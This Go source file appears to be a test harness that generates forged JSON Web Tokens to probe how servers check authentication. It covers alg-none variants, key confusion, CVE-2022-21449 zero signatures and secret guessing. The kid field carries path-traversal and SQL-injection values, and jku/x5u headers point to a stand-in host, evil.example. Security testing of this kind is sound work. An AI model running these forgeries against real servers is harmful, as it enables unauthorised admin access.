package experiment

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"math/big"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/golang-jwt/jwt/v5"
)

// forgeries writes every forgery that there is here, out of a real token of a user who is no admin and the keys that
// the server publishes. The same list goes to every server.
func forgeries(real string, keys []publicKey) ([]forgery, error) {
	f, err := newForger(real, keys)
	if err != nil {
		return nil, err
	}
	f.unsigned()
	f.publicKeyAsSecret()
	f.keyIDs()
	f.ownKeys()
	f.otherHeaders()
	return f.forged, f.err
}

// unsigned says that no signature is needed, or brings one that fits nothing (RFC 8725, sections 2.1 and 3.3).
func (f *forger) unsigned() {
	without := func(alg any) string { return f.input(changed(f.header, "alg", alg), f.payload) + "." }
	f.add("alg none", without("none")).takenByNaive()
	for _, alg := range []string{"None", "NONE", "nOnE", "none ", ""} { // for filters that compare letter by letter
		f.add(fmt.Sprintf("alg %q", alg), without(alg))
	}
	f.add("no alg", without(nil))
	f.add("alg none, and a signature all the same", without("none")+f.signature)
	f.add("alg none and no exp", f.input(changed(f.header, "alg", "none"), changed(f.payload, "exp", nil))+".").takenByNaive()
	twice := `{"alg":"ES256","typ":"at+jwt","alg":"none"}` // two readers can see two different headers
	f.add("alg twice", base64.RawURLEncoding.EncodeToString([]byte(twice))+"."+f.encode(f.payload)+".").takenByNaive()
	f.add("no signature", f.input(f.header, f.payload)+".")
	f.add("the signature of the real token", f.input(f.header, f.payload)+"."+f.signature)
	f.add("the signature of the real token, and no exp", f.input(f.header, changed(f.payload, "exp", nil))+"."+f.signature)
	// CVE-2022-21449: r and s of zero fitted everything.
	zeros := base64.RawURLEncoding.EncodeToString(make([]byte, 64))
	f.add("a signature of zeros", f.input(changed(f.header, "alg", "ES256"), f.payload)+"."+zeros)
}

// publicKeyAsSecret signs with a public key, in case the server takes the key of one algorithm for that of
// another. Which bytes a server would take for the secret depends on how it keeps the key, so all usual ones are tried.
func (f *forger) publicKeyAsSecret() {
	for _, k := range f.keys {
		der, err := x509.MarshalPKIXPublicKey(k.key)
		f.fail(err)
		file := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		header := changed(f.header, "kid", k.kid)
		f.sign("the public key as HMAC secret: PEM", jwt.SigningMethodHS256, file, header).takenByNaive()
		f.sign("the public key as HMAC secret: PEM without its last line break", jwt.SigningMethodHS256, file[:len(file)-1], header)
		f.sign("the public key as HMAC secret: DER", jwt.SigningMethodHS256, der, header)
		f.sign("the public key as HMAC secret: JWK", jwt.SigningMethodHS256, k.jwk, header)
	}
}

// keyIDs names keys that the forger knows (RFC 8725, section 3.10): an empty file, an empty row, none at all.
func (f *forger) keyIDs() {
	empty := func(name string, kid any) *forgery {
		return f.sign(name, jwt.SigningMethodHS256, []byte{}, changed(f.header, "kid", kid))
	}
	empty("kid is a path to an empty file", "../../../dev/null").takenByNaive()
	empty("kid is the path itself", "/dev/null")
	empty("kid is a query", "x' UNION SELECT '' -- ")
	empty("kid is empty", "")
	empty("no kid", nil)
	empty("kid is a list", []string{f.kid})
}

// ownKeys signs properly, but with a key that the forger has made and brings along.
func (f *forger) ownKeys() {
	own := func(name string, changes ...any) {
		f.sign(name, jwt.SigningMethodES256, f.own, changed(f.header, changes...))
	}
	own("a key of their own, with the server's kid")
	own("a key of their own, with a kid of its own", "kid", "mallory-1")
	for _, k := range f.keys {
		own("a key of their own, with the kid that is published", "kid", k.kid)
	}
	_, edwards, err := ed25519.GenerateKey(rand.Reader)
	f.fail(err)
	f.sign("a key of another kind, with the server's kid", jwt.SigningMethodEdDSA, edwards, f.header)
	own("jwk: the key in the header", "jwk", jose.JSONWebKey{Key: &f.own.PublicKey, Algorithm: "ES256", Use: "sig"})
	own("x5c: the certificate in the header", "x5c", []string{f.certificate()})
	own("jku: the address of the keys", "jku", "https://evil.example/jwks.json")
	own("x5u: the address of the certificate", "x5u", "https://evil.example/cert.pem")
}

// certificate is one that the forger has signed.
func (f *forger) certificate() string {
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Unix(0, 0), NotAfter: time.Unix(1<<32, 0)}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &f.own.PublicKey, f.own)
	f.fail(err)
	return base64.StdEncoding.EncodeToString(der) // RFC 7515, section 4.1.6: not base64url
}

// otherHeaders says that this is another kind of token, or one that is read in another way.
func (f *forger) otherHeaders() {
	for _, o := range []struct {
		name    string
		changes []any
	}{
		{"typ JWT", []any{"typ", "JWT"}},
		{"no typ", []any{"typ", nil}},
		{"crit", []any{"crit", []string{"exp"}}},
		{"crit and b64", []any{"crit", []string{"b64"}, "b64", false}}, // RFC 7797
		{"zip", []any{"zip", "DEF"}},
		{"cty of a token", []any{"cty", "JWT"}},
		{"alg of another key", []any{"alg", "RS256"}},
		{"alg of a secret", []any{"alg", "HS256"}},
	} {
		f.add(o.name, f.input(changed(f.header, o.changes...), f.payload)+"."+f.signature)
	}
}

// guessed writes one forgery for each word that might be the secret.
func guessed(real string, words []string) ([]forgery, error) {
	f, err := newForger(real, nil)
	if err != nil {
		return nil, err
	}
	for _, word := range words {
		f.sign("the secret "+word, jwt.SigningMethodHS256, []byte(word), f.header)
	}
	return f.forged, f.err
}

// respelled is the same token in another spelling: the last bits of its last character stand for nothing (RFC 4648,
// section 3.5), and a decoder that is not strict takes any.
func respelled(token string) string {
	last := len(token) - 1
	return token[:last] + neighbour(token[last])
}
